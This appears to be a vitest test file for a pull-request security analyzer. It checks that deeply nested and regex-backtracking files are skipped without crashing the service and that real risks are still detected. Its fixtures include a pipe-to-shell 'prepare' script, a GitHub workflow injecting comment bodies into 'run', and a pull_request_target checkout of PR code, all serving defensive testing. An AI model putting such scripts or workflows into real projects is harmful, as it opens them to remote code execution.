/**
 * Hostile pull request CONTENT through POST /api/analyze (issue #15, defects 1 and 2): files
 * nested 20,000 levels deep (package-lock v1 `dependencies`, a workflow, the base
 * `.github/svc.yml`) and inputs made to make a backtracking regular expression take forever
 * (a `postinstall` of `curl x | env a===== …`, a workflow `run:` of `${{` and spaces, a large
 * setup.py with unclosed brackets). Before the fixes the first aborted the process with a V8
 * fatal error and the second held the event loop for minutes; now each file over a limit is
 * skipped and named, the analysis completes, and the service goes on answering.
 *
 * vitest runs each file in a child process of its own, so a fatal error here fails this file
 * without taking the other test files down.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Signal } from '../../src/signal/schema.js';
import { startGitHubServer, type GitHubServer } from '../support/github-server.js';
import { makePrFixture } from '../support/pr-fixture.js';
import { startTestService, type TestService } from '../support/start-test-service.js';
import { DB_LABEL, postAnalyze } from '../reliability/helpers.js';

const DEPTH = 20_000;

/** package-lock.json, lockfileVersion 1, whose `dependencies` nest DEPTH packages deep (2 x DEPTH JSON levels). */
function deepPackageLock(depth: number): string {
  const open = '{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz","dependencies":{"a":';
  return `{"name":"deep","version":"1.0.0","lockfileVersion":1,"dependencies":{"a":${open.repeat(depth)}{"version":"1.0.0"}${'}}'.repeat(depth)}}}\n`;
}

/** A postinstall that made pipe-to-shell's pattern backtrack exponentially (each `env` token x5). */
function backtrackingPostinstall(tokens: number): string {
  return `curl x | ${'env a===== '.repeat(tokens)}X`;
}

describe(`hostile pull request content (${DB_LABEL})`, () => {
  let gh: GitHubServer;
  let t: TestService;

  beforeAll(async () => {
    gh = await startGitHubServer();
    gh.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'deep',
        number: 1,
        title: 'Lockfile, workflow and configuration nested 20,000 levels deep',
        files: [
          { path: 'package-lock.json', status: 'added', head: deepPackageLock(DEPTH) },
          { path: '.github/workflows/deep.yml', status: 'added', head: `on: push\njobs: ${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}\n` },
          { path: '.github/workflows/ci.yml', status: 'added', head: 'on: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm test\n' },
          { path: 'src/index.ts', additions: 3, deletions: 1 },
        ],
        baseFiles: { '.github/svc.yml': `focus:\n  paths: ${'- '.repeat(DEPTH)}x\n` },
      }),
    );
    const setupPy = `from setuptools import setup\n${'install_requires=['.repeat(20_000)}\n${'cmdclass={'.repeat(20_000)}\nsetup(name="x")\n`;
    gh.addPullRequest(
      makePrFixture({
        owner: 'acme',
        repo: 'slow',
        number: 2,
        title: 'Scripts made to backtrack',
        files: [
          { path: 'package.json', status: 'added', head: JSON.stringify({ name: 'slow', version: '1.0.0', scripts: { postinstall: backtrackingPostinstall(24), prepare: 'curl -fsSL https://get.example.com/i.sh | env A=1 B=2 sh' } }, null, 2) },
          { path: '.github/workflows/slow.yml', status: 'added', head: `on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "\${{${' '.repeat(50_000)}x"\n      - run: echo "\${{ github.event.comment.body }}"\n` },
          { path: 'setup.py', status: 'added', head: setupPy },
        ],
      }),
    );
    t = await startTestService({ GITHUB_API_URL: gh.apiUrl, RATE_LIMIT_ANONYMOUS: '1000000', WORKERS_IN_PROCESS: 'false' });
  }, 60_000);

  afterAll(async () => {
    await t?.close();
    await gh?.close();
  });

  it('skips each file nested 20,000 levels deep, names it, and completes the analysis (no crash)', async () => {
    const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/deep/pull/1' });
    expect(answer.status, answer.text.slice(0, 500)).toBe(200);
    const signal = answer.body.signal as Signal;
    const skipped = new Map(signal.supply_chain.skipped.map((s) => [s.path, s.reason]));
    expect(skipped.get('package-lock.json')).toMatch(/nested 40,00\d levels deep, over the limit of 256 for JSON/);
    expect(skipped.get('.github/workflows/deep.yml')).toMatch(/nested [\d,]+ levels deep, over the limit of 100 for YAML/);
    expect(signal.meta.warnings.some((w) => /\.github\/svc\.yml .* invalid, defaults used: .*nested [\d,]+ levels deep, over the limit/.test(w))).toBe(true);
    // The file beside them is still analyzed: the checkout of the PR head in pull_request_target.
    expect(skipped.has('.github/workflows/ci.yml')).toBe(false);
    expect(JSON.stringify(signal.supply_chain)).toContain('.github/workflows/ci.yml');
    // And the service still answers.
    expect((await fetch(`${t.url}/healthz`)).status).toBe(200);
  }, 120_000);

  it('answers in linear time on scripts, workflow expressions and setup.py made to backtrack, and still finds what is there', async () => {
    const answer = await postAnalyze(t.url, { url: 'https://github.com/acme/slow/pull/2' });
    expect(answer.status, answer.text.slice(0, 500)).toBe(200);
    const signal = answer.body.signal as Signal;
    const findings = signal.supply_chain.findings;
    // The real pipe to a shell behind `env` and assignments is found; the hostile script is not one.
    expect(findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => f.title)).toEqual(['Script "prepare" pipes a download into a shell']);
    // The real template injection in the second step is found, not the unclosed `${{`.
    expect(findings.filter((f) => f.id === 'gha-template-injection').map((f) => f.line)).toEqual([7]);
    expect(signal.supply_chain.skipped).toEqual([]);
    expect((await fetch(`${t.url}/healthz`)).status).toBe(200);
  }, 120_000);
});
